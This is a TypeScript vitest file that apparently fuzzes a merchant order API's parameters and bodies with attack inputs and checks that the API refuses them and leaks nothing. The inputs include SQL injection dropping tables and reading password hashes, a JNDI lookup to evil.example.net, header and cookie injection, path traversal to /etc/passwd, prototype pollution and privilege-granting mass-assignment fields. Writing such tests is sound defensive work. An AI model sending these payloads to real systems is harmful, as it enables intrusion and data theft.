import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ALL_PERMISSIONS } from '#core/permissions.ts'
import { MILLS, makeApi, NOW } from '../make/api.ts'
import { dumpTables } from '../make/database-dump.ts'
import { type Operation, operationsOf, titleOf } from '../make/operations.ts'
import { putSession } from '../make/session.ts'

type Headers = Awaited<ReturnType<typeof putSession>>['headers']

let api: Awaited<ReturnType<typeof makeApi>>
let document: Awaited<ReturnType<typeof operationsOf>>
let sessions: { readonly worker: Headers; readonly operator: Headers }
beforeAll(async () => {
  api = await makeApi()
  const of = async (merchant: string | null) =>
    (await putSession(api.database, NOW, { merchant, owner: merchant !== null, permissions: ALL_PERMISSIONS })).headers
  sessions = { worker: await of(MILLS), operator: await of(null) }
  document = await operationsOf(api.app)
})
afterAll(() => api.close())

const whoMay = (operation: Operation) => (operation.for === 'operator' ? sessions.operator : sessions.worker)

/** What the tables hold; not when somebody was last seen, and not what was refused. */
const everything = () =>
  dumpTables(api.database, [
    'auth.sessions',
    'auth.tries',
    'auth.sign_ins',
    'deployment.audit',
    'deployment.kept_keys',
    'deployment.audit_heads',
  ])

const REFUSED = [400, 403, 404, 409, 410, 422]
const FORGED =
  'a\r\nset-cookie: millrace=stolen\r\n\r\n{"level":60}\u001b[2J\u202e${jndi:ldap://evil.example.net}{{7*7}}'
/** Signs that no answer may hold as they are. */
const LOOSE = ['\u001b', '\r', '\n']

describe('every place of an address', () => {
  const send = async (operation: Operation, value: string) => {
    const path = operation.path.replace(/\{\w+\}/g, () => value)
    const query = operation.query.map((name) => `${name}=${value}`).join('&')
    const reply = await api.app.inject({
      method: operation.method,
      url: query ? `${path}?${query}` : path,
      headers: { ...whoMay(operation), ...(operation.body ? { 'content-type': 'application/json' } : {}) },
      ...(operation.body ? { payload: '{}' } : {}),
    })
    return { status: reply.statusCode, text: reply.body, headers: JSON.stringify(reply.headers) }
  }

  test.each([
    ['SQL', `'; drop table millrace.orders; -- ' or '1'='1' union select hash from auth.passwords \\ $1 $$ %s`],
    ['a NUL', 'a\u0000b'],
    ['line breaks, headers, colours of a terminal, templates', FORGED],
    ['a way out of a folder', '../../../../etc/passwd'],
    ['a name of every object', '__proto__'],
    ['a number beyond all numbers', '9'.repeat(15)],
  ])('[X1] may hold %s: never a failure of ours, and nothing changes', async (_what, value) => {
    const before = await everything()
    const wrong: string[] = []
    for (const operation of document.operations.filter(({ params, query }) => params.length + query.length > 0)) {
      const { status, text, headers } = await send(operation, encodeURIComponent(value))
      // What only reads may find nothing; what changes something finds nothing to change.
      if (!REFUSED.includes(status) && !(status === 200 && operation.method !== 'PUT'))
        wrong.push(`${titleOf(operation)}: ${status} ${text}`)
      if (
        /syntax error|at .*\.ts:/.test(text) ||
        LOOSE.some((sign) => text.includes(sign)) ||
        headers.includes('stolen')
      )
        wrong.push(`${titleOf(operation)} tells ${text}`)
    }
    expect(wrong).toEqual([])
    expect(await everything()).toEqual(before)
  })

  test('[X1] a parameter that comes twice, as a list or as an object is refused, and so is one that nobody knows', async () => {
    const wrong: string[] = []
    for (const operation of document.operations.filter(
      (each) => each.method === 'GET' && each.query.length > 0 && !each.scopes.includes('vendor:orders'),
    ))
      for (const query of [
        operation.query.map((name) => `${name}=1&${name}=2`).join('&'),
        `${operation.query[0]}[]=1`,
        `${operation.query[0]}[$ne]=1`,
        'merchantId=OTHER',
        '__proto__=1',
      ]) {
        const path = operation.path.replace(/\{\w+\}/g, '1001')
        const reply = await api.app.inject({ url: `${path}?${query}`, headers: whoMay(operation) })
        if (reply.statusCode !== 400) wrong.push(`${titleOf(operation)}?${query}: ${reply.statusCode}`)
      }
    expect(wrong).toEqual([])
  })
})

describe('every body', () => {
  test('[X1] a field that nobody asked for is refused by its name, and nothing is saved', async () => {
    const before = await everything()
    const wrong: string[] = []
    const more = {
      merchantId: 'OTHER',
      owner: true,
      operator: true,
      scopes: ['pii:reveal'],
      createdBy: 'boss@example.com',
    }
    for (const operation of document.operations.filter(({ body }) => body !== null)) {
      const reply = await api.app.inject({
        method: operation.method,
        url: operation.path.replace(/\{(\w+)\}/g, (_, name) => GOOD[name] ?? '1001'),
        headers: { ...whoMay(operation), 'content-type': 'application/json' },
        payload: JSON.stringify(more),
      })
      const told = (reply.json().fields ?? []) as readonly { readonly field: string; readonly why: string }[]
      const named = told.map(({ field }) => field)
      const isNamed = Object.keys(more).some((name) => named.includes(name))
      if (reply.statusCode !== 400 || !(isNamed || UNIONS.includes(titleOf(operation))))
        wrong.push(`${titleOf(operation)}: ${reply.statusCode} ${named}`)
    }
    expect(wrong).toEqual([])
    expect(await everything()).toEqual(before)
  })

  /** Names of a good form, so that the body is looked at. */
  const GOOD: Readonly<Record<string, string>> = {
    connectionId: 'na-A1',
    order: '1001',
    kind: 'shipping-confirmation',
    itemId: 'MUG',
    marketplaceId: 'ATVPDKIKX0DER',
    merchantId: 'OTHER',
    amazonOrderId: '112-1234567-1234567',
  }
  /** Bodies that are one of several forms: of them only the whole is told. */
  const UNIONS = ['POST /session/second-factor', 'POST /orders/{order}/cancellation', 'PUT /imports/{import}/options']

  test.each([
    ['a NUL', 'a\u0000b'],
    ['SQL', `'; drop table millrace.orders; --\\`],
    ['line breaks, headers, colours of a terminal, templates', FORGED],
    ['half an emoji', '\ud83d'],
    ['200,000 letters', 'x'.repeat(200_000)],
  ])('[X1] may hold %s in every text at once: never a failure of ours', async (_what, text) => {
    const wrong: string[] = []
    for (const operation of document.operations.filter(({ body }) => body !== null)) {
      const reply = await api.app.inject({
        method: operation.method,
        url: operation.path.replace(/\{(\w+)\}/g, (_, name) => GOOD[name] ?? '1001'),
        headers: { ...whoMay(operation), 'content-type': 'application/json' },
        payload: JSON.stringify(filled(operation.body ?? {}, text, 0)),
      })
      if (reply.statusCode >= 500 || JSON.stringify(reply.headers).includes('stolen'))
        wrong.push(`${titleOf(operation)}: ${reply.body}`)
      if (LOOSE.some((sign) => reply.body.includes(sign))) wrong.push(`${titleOf(operation)} tells ${reply.body}`)
    }
    expect(wrong).toEqual([])
  })

  test('[X1] no shape of a body lets in what it does not name, but the words of browsers and of Amazon', () => {
    const open = Object.entries(document.schemas).flatMap(([name, shape]) =>
      name.endsWith('Input') ? openIn(name, shape) : [],
    )
    expect([...new Set(open)].sort()).toEqual([
      'AmazonTabEntryInput.attributes',
      'ConfiguredAmazonTabInput.attributes',
      'MoveOrderInput.restock',
      'NewPasskeyBodyInput.response',
      'PasskeyBodyInput.response',
      'SecondFactorBodyInput.passkey',
    ])
  })
})

/** A body in a shape, with one text wherever a text may stand, and else the first thing that is allowed. */
function filled(shape: Shape, text: string, depth: number): unknown {
  const whole = shape.$ref ? (document.schemas[shape.$ref.split('/').at(-1) ?? ''] ?? {}) : shape
  if (depth > 6) return null
  const one = whole.anyOf?.[0] ?? whole.oneOf?.[0]
  if (one) return filled(one, text, depth + 1)
  if (whole.const !== undefined) return whole.const
  if (whole.enum) return whole.enum[0]
  if (whole.type === 'string') return /date|ipv/.test(whole.format ?? '') ? '2026-12-01T00:00:00Z' : text
  if (whole.type === 'integer' || whole.type === 'number') return whole.minimum ?? 1
  if (whole.type === 'boolean') return true
  if (whole.type === 'array') return whole.items ? [filled(whole.items, text, depth + 1)] : []
  if (whole.type !== 'object') return null
  return Object.fromEntries(
    Object.entries(whole.properties ?? {}).map(([name, part]) => [name, filled(part, text, depth + 1)]),
  )
}

type Shape = (typeof document)['schemas'][string]

/** Where an object of a shape takes fields that it does not name. */
function openIn(name: string, shape: Shape): string[] {
  const here = shape.type === 'object' && shape.additionalProperties !== false ? [name] : []
  const parts = [
    ...Object.entries(shape.properties ?? {}).map(([field, part]) => [`${name.split('.')[0]}.${field}`, part] as const),
    ...(shape.anyOf ?? []).map((part) => [name, part] as const),
    ...(shape.items ? [[name, shape.items] as const] : []),
  ]
  return [...here, ...parts.flatMap(([inside, part]) => openIn(inside, part))]
}
